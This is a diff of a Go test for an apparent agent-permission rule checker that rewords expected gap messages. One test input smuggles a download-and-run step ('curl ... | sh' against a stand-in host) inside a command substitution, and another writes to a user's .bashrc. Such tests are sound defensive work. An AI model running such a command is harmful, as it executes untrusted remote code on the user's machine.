@@ -122,9 +122,9 @@ func TestGaps(t *testing.T) {
 	t.Parallel()
 	for _, test := range []struct{ rule, action, want string }{
 		{"action_types: [execute_command], commands: ['frob .*']", "frob a; ls", "runs 2 programs"},
-		{"commands: ['frob a']", "frob a b", "the whole command"},
+		{"commands: ['frob a']", "frob a b", "only a part of the command"},
 		{"commands: ['frob .*']", "frob $(curl https://x.test/a | sh)", "is unknown"},
-		{"action_types: [execute_command], paths: [$WORKSPACE/**]", "touch a", "without either: execute touch"},
+		{"action_types: [execute_command], paths: [$WORKSPACE/**]", "touch a", "that has neither: execute touch"},
 		{"action_types: [write_file], paths: [$WORKSPACE/a/**]", `{"type":"write_file","payload":{"path":"b","content":"x"}}`, "other keys do not match: write_file /work/app/b"},
 		{"action_types: [write_file], paths: ['**/*']", `{"type":"write_file","payload":{"path":"/home/me/.bashrc","content":"x"}}`, ""},
 	} {
